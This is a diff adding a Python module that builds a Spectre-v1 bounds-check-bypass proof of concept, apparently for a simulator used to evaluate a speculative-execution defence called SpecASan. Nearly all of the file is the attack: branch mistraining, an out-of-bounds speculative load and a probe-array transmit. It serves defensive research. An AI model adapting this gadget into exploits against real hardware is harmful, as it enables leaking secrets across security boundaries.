@@ -1,0 +1,100 @@
+"""Spectre-v1 (PHT, bounds-check bypass) — the paper's running example.
+
+The gadget reproduces Listing 1: a victim bounds check ``if (X <
+ARRAY1_SIZE)`` guarding ``ARRAY1[X]``, with the size load made slow (cold
+line) so the mistrained branch stays unresolved while the speculative path
+performs ACCESS → USE → TRANSMIT.  Training runs the same branch (same
+gshare history context, thanks to a data-driven loop) with in-bounds
+indices; the final iteration supplies an out-of-bounds index reaching into
+a granule tagged with the *secret's* tag, so the pointer key (public) and
+the lock (secret) mismatch — which is precisely what SpecASan detects
+(Figure 5's walkthrough).
+"""
+
+from __future__ import annotations
+
+from repro.attacks.common import (
+    ARRAY1_BASE,
+    AttackProgram,
+    make_probe_array,
+    plant_secret,
+    PROBE_BASE,
+    SECRET_BASE,
+    SIZE_CELL_A,
+    SIZE_CELL_B,
+    TABLES_BASE,
+    TAG_PUBLIC,
+    TAG_SECRET,
+    emit_transmit,
+)
+from repro.isa.builder import ProgramBuilder
+from repro.mte.tags import with_key
+
+#: Training iterations before the out-of-bounds attempt.
+TRAIN_ITERS = 7
+#: The secret nibble the attack tries to exfiltrate.
+SECRET_VALUE = 11
+#: Value the in-bounds training elements hold (probe[1] becomes benign).
+TRAIN_VALUE = 1
+#: ARRAY1_SIZE as the victim declares it.
+ARRAY1_SIZE = 16
+
+
+def build(variant: str = "classic") -> AttackProgram:
+    """Construct the Spectre-v1 PoC program."""
+    if variant != "classic":
+        raise ValueError(f"unknown spectre-v1 variant {variant!r}")
+    b = ProgramBuilder()
+    oob_index = SECRET_BASE - ARRAY1_BASE
+
+    # Data layout.
+    b.bytes_segment("array1", ARRAY1_BASE,
+                    bytes([TRAIN_VALUE] * ARRAY1_SIZE), tag=TAG_PUBLIC)
+    plant_secret(b, SECRET_VALUE)
+    make_probe_array(b)
+    b.words_segment("size_a", SIZE_CELL_A, [ARRAY1_SIZE])
+    b.words_segment("size_b", SIZE_CELL_B, [ARRAY1_SIZE])
+    iters = TRAIN_ITERS + 1
+    indices = [1 + (i % 3) for i in range(TRAIN_ITERS)] + [oob_index]
+    size_ptrs = [SIZE_CELL_A] * TRAIN_ITERS + [SIZE_CELL_B]
+    b.words_segment("idx_table", TABLES_BASE, indices)
+    b.words_segment("ptr_table", TABLES_BASE + 0x200, size_ptrs)
+
+    # Victim warm-up: a legitimate (key-matching) access caches the secret
+    # line, so the speculative ACCESS would be an L1 hit.
+    b.li("X20", with_key(SECRET_BASE, TAG_SECRET), note="victim pointer")
+    b.ldrb("X21", "X20", note="victim legitimately touches its secret")
+
+    # Attacker state.
+    b.li("X2", with_key(ARRAY1_BASE, TAG_PUBLIC), note="ARRAY1 (public tag)")
+    b.li("X3", PROBE_BASE, note="ARRAY2 / probe")
+    b.li("X22", TABLES_BASE)
+    b.li("X23", TABLES_BASE + 0x200)
+    b.li("X25", 0, note="iteration counter")
+
+    b.label("loop")
+    b.lsl("X24", "X25", imm=3)
+    b.ldr("X0", "X22", rm="X24", note="index for this run")
+    b.ldr("X10", "X23", rm="X24", note="which ARRAY1_SIZE cell to read")
+    b.bl("gadget")
+    b.add("X25", "X25", imm=1)
+    b.cmp("X25", imm=iters)
+    b.b_cond("LO", "loop")
+    b.halt()
+
+    # Listing 1's victim gadget.
+    b.label("gadget")
+    b.ldr("X1", "X10", note="LDR X1, [ARRAY1_SIZE]")
+    b.cmp("X0", "X1", note="X < ARRAY1_SIZE")
+    b.b_cond("HS", "skip", note="mistrained branch")
+    b.ldrb("X5", "X2", rm="X0", note="ACCESS: load ARRAY1[X]")
+    emit_transmit(b, "X5", "X3")
+    b.label("skip")
+    b.ret()
+
+    return AttackProgram(
+        name="spectre-v1", variant=variant,
+        builder_program=b.build(),
+        secret_value=SECRET_VALUE, secret_address=SECRET_BASE,
+        benign_values=[TRAIN_VALUE],
+        description="bounds-check bypass via PHT mistraining (Listing 1)")
